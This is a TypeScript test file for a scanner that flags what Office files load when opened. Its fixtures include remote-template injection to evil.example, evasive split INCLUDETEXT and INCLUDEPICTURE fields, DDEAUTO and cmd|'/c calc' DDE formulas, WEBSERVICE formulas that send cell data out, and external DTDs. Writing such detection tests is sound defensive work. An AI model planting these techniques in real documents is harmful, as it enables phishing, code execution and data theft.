import { buffer } from "node:stream/consumers";
import yazl from "yazl";
import { describe, expect, test } from "vitest";
import { officeFileOf } from "@/tests/support/office-files";
import { readZippedOffice } from "./office-content";

const officeTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relations = (type: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="rId1" Type="${officeTypes}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const word = (body: string) => `<w:document xmlns:w="urn:w"><w:body>${body}</w:body></w:document>`;
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;

async function loadsOf(name: string, content: string | Buffer): Promise<string[] | undefined> {
  const bytes = await officeFileOf({ "word/document.xml": "<x/>", [name]: content });
  return (await readZippedOffice(bytes))?.loadsFrom;
}

describe("what a Word or Excel file loads when it is opened", () => {
  test.each([
    [
      "a remote template",
      "word/_rels/settings.xml.rels",
      relations("attachedTemplate", "https://evil.example/t.dotm"),
      "evil.example",
    ],
    [
      "a template on a share",
      "word/_rels/settings.xml.rels",
      relations("attachedTemplate", "file:///\\\\10.0.0.7\\t.dotm"),
      "10.0.0.7",
    ],
    [
      "a picture",
      "word/_rels/header1.xml.rels",
      relations("image", "http://evil.example:8080/1.png"),
      "evil.example:8080",
    ],
    [
      "an object",
      "word/_rels/document.xml.rels",
      relations("oleObject", "mhtml:http://evil.example/x!y"),
      "evil.example",
    ],
    [
      "another workbook",
      "xl/externalLinks/_rels/externalLink1.xml.rels",
      relations("externalLinkPath", "Book2.xlsx"),
      "Book2.xlsx",
    ],
    [
      "a query",
      "xl/connections.xml",
      '<connections><connection><webPr url="https://evil.example/q"/></connection></connections>',
      "evil.example",
    ],
    [
      "a field of one element",
      "word/document.xml",
      word('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/p&quot; "/>'),
      "evil.example",
    ],
    [
      "a field cut into pieces",
      "word/document.xml",
      word(`${mark("begin")}${run(" INCLUDETE")}${run('XT "ht')}${run('tp://evil.example/a"')}${mark("end")}`),
      "evil.example",
    ],
    [
      "a field within a hyperlink",
      "word/document.xml",
      word(
        `${mark("begin")}${run("HYPERLINK ")}${mark("begin")}${run('INCLUDETEXT "\\\\\\\\evil.example\\\\a"')}${mark("end")}${mark("end")}`,
      ),
      "evil.example",
    ],
    [
      "a command",
      "word/document.xml",
      word(`${mark("begin")}${run("DDEAUTO cmd calc")}${mark("end")}`),
      "DDEAUTO cmd calc",
    ],
    [
      "a formula",
      "xl/worksheets/sheet1.xml",
      '<worksheet><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f></worksheet>',
      "evil.example",
    ],
    ["a document type", "word/styles.xml", '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>', "<!DOCTYPE>"],
    [
      "UTF-16",
      "word/_rels/settings.xml.rels",
      Buffer.from(`\uFEFF${relations("attachedTemplate", "https://evil.example/t")}`, "utf16le"),
      "evil.example",
    ],
  ])("%s", async (_, name, content, host) => {
    expect(await loadsOf(name, content)).toEqual([host]);
  });

  test.each([
    [
      "a function with an address put together",
      "xl/worksheets/sheet1.xml",
      '<worksheet><f>_xlfn.WEBSERVICE(A1&amp;"/x")</f></worksheet>',
    ],
    ["a picture function", "xl/worksheets/sheet1.xml", "<worksheet><f>IMAGE(A1)</f></worksheet>"],
    ["a defined name", "xl/workbook.xml", "<workbook><definedName>WEBSERVICE(A1)</definedName></workbook>"],
    [
      "a field with an address put together",
      "word/document.xml",
      word(`${mark("begin")}${run("INCLUDEPICTURE ")}${mark("begin")}${run("QUOTE 104")}${mark("end")}${mark("end")}`),
    ],
    [
      "an instruction that is too long to look into",
      "word/document.xml",
      word(`${mark("begin")}${run(" ".repeat(9000))}${run('INCLUDETEXT "http://evil.example/"')}${mark("end")}`),
    ],
    [
      "a template called a hyperlink",
      "word/_rels/settings.xml.rels",
      relations("attachedTemplate/hyperlink", "t.dotm"),
    ],
    [
      "a picture of VML",
      "word/vmlDrawing1.vml",
      '<xml xmlns:v="urn:v"><v:imagedata src="https://evil.example/1.png"/></xml>',
    ],
    ["XML under the name of data", "word/real.dat", word('<w:fldSimple w:instr="INCLUDETEXT x"/>')],
    ["a page of HTML", "word/afchunk.mht", "<html><img src=https://evil.example/1.png><br></html>"],
  ])("%s", async (_, name, content) => {
    expect(await loadsOf(name, content)).toHaveLength(1);
  });

  test.each([
    [
      "a program, as Excel keeps its data",
      "xl/externalLinks/externalLink1.xml",
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
      "<ddeLink>",
    ],
    ["a program in a formula", "xl/worksheets/sheet1.xml", "<f>cmd|'/c calc'!A0</f>", "cmd|'/c calc'!A0"],
    [
      "one among texts",
      "xl/worksheets/sheet1.xml",
      "<f>'a\"b'!A1+cmd|'/c'!A0&amp;\"x\"</f>",
      "'a\"b'!A1+cmd|'/c'!A0&\"x\"",
    ],
    [
      "a source of mail merge",
      "word/settings.xml",
      '<w:s xmlns:w="u"><w:mailMerge><w:connectString w:val="Data Source=evil.example"/></w:mailMerge></w:s>',
      "Data Source=evil.example",
    ],
    [
      "a web extension",
      "word/webextensions/webextension1.xml",
      '<we:webextension xmlns:we="u"><we:reference store="https://evil.example"/></we:webextension>',
      "<webextension>",
    ],
    ["buttons that call code", "customUI/customUI.xml", '<customUI onLoad="x"/>', "<customUI>"],
    ["an outer cache", "xl/pivotCache/d1.xml", '<p><cacheSource type="external"/></p>', "<cacheSource>"],
    [
      "a history of prices",
      "xl/worksheets/sheet1.xml",
      '<f>_xlfn.STOCKHISTORY("MSFT",1)</f>',
      '_xlfn.STOCKHISTORY("MSFT",1)',
    ],
    ["a cube", "xl/worksheets/sheet1.xml", '<f>CUBEVALUE("c","m")</f>', 'CUBEVALUE("c","m")'],
    ["an Excel 4 macro", "xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns:xm="u"/>', "<macrosheet>"],
    [
      "a field that nobody knows",
      "word/document.xml",
      word(`${mark("begin")}${run("NEWFIELD x")}${mark("end")}`),
      "NEWFIELD x",
    ],
    ["a field whose name others make", "word/document.xml", word(`${mark("begin")}${run(" x")}${mark("end")}`), "x"],
    [
      "a function that nobody knows",
      "xl/worksheets/sheet1.xml",
      "<worksheet><f>_xlfn.NEWLOAD(A1)</f></worksheet>",
      "_xlfn.NEWLOAD(A1)",
    ],
    [
      "a function of an add-in",
      "xl/worksheets/sheet1.xml",
      "<worksheet><f>SUM(_xll.Load(A1))</f></worksheet>",
      "SUM(_xll.Load(A1))",
    ],
    [
      "a control",
      "word/_rels/document.xml.rels",
      relations("control", "activeX/activeX1.xml", "Internal"),
      "activeX/activeX1.xml",
    ],
    [
      "a link of a new kind",
      "word/_rels/document.xml.rels",
      relations("newKind", "new/part.xml", "Internal"),
      "new/part.xml",
    ],
    [
      "a link that is neither within nor without",
      "word/_rels/document.xml.rels",
      relations("image", "media/a.png", "Elsewhere"),
      "media/a.png",
    ],
    [
      "a picture of the web in a cell",
      "xl/_rels/workbook.xml.rels",
      '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage" Target="richData/web.xml"/></Relationships>',
      "richData/web.xml",
    ],
  ])("%s is named", async (_, name, content, place) => {
    expect(await loadsOf(name, content)).toContain(place);
  });

  test("a file within the file is looked into, and named where it cannot be", async () => {
    const rels = relations("attachedTemplate", "https://evil.example/t.dotm");
    const inner = (entries: Record<string, string | Buffer>) =>
      officeFileOf(entries).then((bytes) => Buffer.from(bytes));
    const within = await inner({ "word/document.xml": "<x/>", "word/_rels/settings.xml.rels": rels });
    expect(await loadsOf("word/embeddings/a.docx", within)).toEqual(["evil.example"]);
    expect(await loadsOf("word/embeddings/a.xlsx", await inner({ "xl/workbook.xml": "<x/>" }))).toEqual([]);
    expect(await loadsOf("word/embeddings/a.xls", Buffer.from("no zip"))).toEqual(["word/embeddings/a.xls"]);
    const deep = await inner({ "a/b.docx": await inner({ "a/c.docx": await inner({ "a/d.docx": within }) }) });
    expect(await loadsOf("word/embeddings/a.docx", deep)).toEqual(["a/c.docx"]);
  });

  test("files within the file unpack to no more than the file alone may", async () => {
    const half = await officeFileOf({ "word/document.xml": "<x/>", "word/media/a.bin": Buffer.alloc(60_000_000) });
    expect(await loadsOf("word/embeddings/a.docx", Buffer.from(half))).toEqual([]);
    const both = await officeFileOf({
      "word/document.xml": "<x/>",
      "word/embeddings/a.docx": Buffer.from(half),
      "word/embeddings/b.docx": Buffer.from(half),
    });
    await expect(readZippedOffice(both)).rejects.toMatchObject({ reason: "attachment_damaged" });
  });

  test("a bar in a text or an inner cache loads nothing", async () => {
    expect(await loadsOf("xl/worksheets/sheet1.xml", '<f>IF(A1="x|y",\'My sheet\'!A1,"it\'s | so")</f>')).toEqual([]);
    expect(await loadsOf("xl/pivotCache/d1.xml", '<p><cacheSource type="worksheet"/></p>')).toEqual([]);
  });

  test("small files that would cost much time are refused or read at once", async () => {
    const started = process.cpuUsage();
    await expect(loadsOf("word/styles.xml", "<a>".repeat(30_000))).rejects.toMatchObject({ code: "invalid" });
    await expect(loadsOf("word/styles.xml", `<x>${" ".repeat(31_000_000)}</x>`)).rejects.toMatchObject({
      code: "invalid",
    });
    expect(await loadsOf("word/_rels/a.xml.rels", relations("image", "/".repeat(1_000_000)))).toHaveLength(1);
    expect(await loadsOf("word/_rels/b.xml.rels", relations("image", "\\".repeat(500_000)))).toHaveLength(1);
    // Generous: it takes half a second here, and took minutes before the limits.
    expect(process.cpuUsage(started).user).toBeLessThan(20_000_000);
    const twice = new yazl.ZipFile();
    for (const name of ["[Content_Types].xml", "word/document.xml", "word/Document.xml"])
      twice.addBuffer(Buffer.from("<x/>"), name);
    twice.end();
    await expect(readZippedOffice(await buffer(twice.outputStream))).rejects.toMatchObject({ code: "invalid" });
  });

  test("hyperlinks, parts of the file itself, dates and page numbers load nothing", async () => {
    for (const [name, content] of [
      ["word/_rels/document.xml.rels", relations("hyperlink", "https://example.com/")],
      ["word/_rels/document.xml.rels", relations("image", "media/image1.png", "Internal")],
      ["word/embeddings/book.xlsx", Buffer.from(await officeFileOf({ "xl/workbook.xml": "<x/>" }))],
      ["word/document.xml", word(`${mark("begin")}${run('HYPERLINK "https://example.com"')}${mark("end")}`)],
      [
        "word/document.xml",
        word(`${mark("begin")}${run('DATE \\@ "dd/MM/yyyy HH:mm" \\* MERGEFORMAT')}${mark("end")}`),
      ],
      ["word/document.xml", "<w:document><m:f><m:num><m:t>f(x)</m:t></m:num></m:f></w:document>"],
      ["word/document.xml", word(`${mark("begin")}${run(' TOC \\o "1-3" \\h \\z \\u ')}${mark("end")}`)],
      ["word/document.xml", word(`${mark("begin")}${run(" = SUM(ABOVE) ")}${mark("end")}`)],
      [
        "word/_rels/document.xml.rels",
        '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2011/relationships/people" Target="people.xml"/><Relationship Type="http://schemas.microsoft.com/office/2016/09/relationships/commentsIds" Target="c.xml"/><Relationship Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>',
      ],
      ["xl/worksheets/sheet1.xml", "<worksheet><f>_xlfn._xlws.FILTER(A1:B2,(A1:A2)=LOG10(B1))</f></worksheet>"],
      ["xl/worksheets/sheet1.xml", '<worksheet><formula1>"yes(1),no(2)"</formula1></worksheet>'],
      [
        "xl/worksheets/sheet1.xml",
        '<worksheet><f>HYPERLINK("https://example.com","there")</f><f>SUM(A1:B2)/2</f></worksheet>',
      ],
    ] as const)
      expect(await loadsOf(name, content), String(content)).toEqual([]);
  });

  test("what is not XML is refused, as Office could not open it either", async () => {
    await expect(loadsOf("word/styles.xml", "<a><b></a>")).rejects.toMatchObject({ reason: "attachment_damaged" });
    await expect(loadsOf("word/styles.xml", Buffer.from([0x3c, 0xff, 0x3e]))).rejects.toMatchObject({
      code: "invalid",
    });
  });
});
